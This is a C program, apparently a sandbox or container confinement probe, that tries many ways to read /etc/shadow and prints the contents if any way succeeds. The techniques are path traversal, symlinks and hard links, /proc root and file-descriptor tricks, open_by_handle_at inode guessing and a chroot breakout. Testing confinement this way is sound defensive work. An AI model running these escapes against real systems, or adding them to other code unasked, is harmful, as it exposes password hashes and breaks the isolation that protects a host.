/* Tries to read /etc/shadow; says READ if it could. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/openat2.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static void report(const char *how, const char *what, long fd)
{
	char text[200] = "";

	if (fd < 0) {
		printf("%s %s: %s\n", how, what, strerror(errno));
	} else {
		if (read((int)fd, text, sizeof(text) - 1) < 0)
			printf("opened, %s: ", strerror(errno));
		printf("READ %s %s: %s\n", how, what, text);
		close((int)fd);
	}
	fflush(stdout);
}

static void by_path(const char *path)
{
	struct open_how how = {.flags = O_RDONLY};

	report("open", path, syscall(SYS_open, path, O_RDONLY));
	report("openat", path, syscall(SYS_openat, AT_FDCWD, path, O_RDONLY));
	report("openat2", path, syscall(SYS_openat2, AT_FDCWD, path, &how, sizeof(how)));
}

static void by_handle(void)
{
	/* Inode 2 is the root of ext4, 64..256 the one of xfs and btrfs. */
	static const unsigned inodes[] = {2, 64, 128, 256};

	for (size_t i = 0; i < sizeof(inodes) / sizeof(*inodes); i++) {
		struct {
			struct file_handle head;
			unsigned char bytes[8];
		} h = {.head = {.handle_bytes = 8, .handle_type = 1}};
		int root = open("/usr/bin", O_RDONLY | O_DIRECTORY);
		long fd;

		memcpy(h.head.f_handle, &inodes[i], sizeof(inodes[i]));
		fd = syscall(SYS_open_by_handle_at, root, &h, O_RDONLY);
		if (fd >= 0)
			fd = openat((int)fd, "etc/shadow", O_RDONLY);
		report("open_by_handle_at", "the root's inode", fd);
		close(root);
	}
}

static void by_proc(void)
{
	char path[300];
	DIR *proc = opendir("/proc");
	const struct dirent *entry;

	while (proc != NULL && (entry = readdir(proc)) != NULL) {
		if (entry->d_name[0] < '0' || entry->d_name[0] > '9')
			continue;
		snprintf(path, sizeof(path), "/proc/%s/root/etc/shadow", entry->d_name);
		by_path(path);
		snprintf(path, sizeof(path), "/proc/%s/cwd/../etc/shadow", entry->d_name);
		by_path(path);
	}
	if (proc != NULL)
		closedir(proc);
	by_path("/proc/1/root/etc/shadow");
	for (int fd = 0; fd < 64; fd++) {
		snprintf(path, sizeof(path), "/proc/self/fd/%d/../../../../etc/shadow", fd);
		int found = open(path, O_RDONLY);

		if (found >= 0)
			report("fd", path, found);
	}
}

static void by_chroot(void)
{
	int here = open("/", O_RDONLY | O_DIRECTORY);
	long rc;

	mkdir("/tmp/hole", 0700);
	rc = syscall(SYS_chroot, "/tmp/hole");
	printf("chroot %ld: %s\n", rc, rc < 0 ? strerror(errno) : "allowed");
	if (rc == 0) {
		if (fchdir(here) == 0)
			for (int i = 0; i < 64; i++)
				if (chdir("..") < 0)
					break;
		report("chroot", "etc/shadow", open("etc/shadow", O_RDONLY));
	}
}

int main(void)
{
	by_path("/etc/shadow");
	by_path("/../../../../etc/shadow");
	by_path("/etc/shadow-");
	by_path("/etc/alternatives/../shadow");
	if (symlink("/etc/shadow", "/tmp/link") == 0)
		by_path("/tmp/link");
	report("hard link", "/tmp/hard", link("/etc/shadow", "/tmp/hard"));
	by_proc();
	by_handle();
	by_chroot();
	puts("end");
	return 0;
}
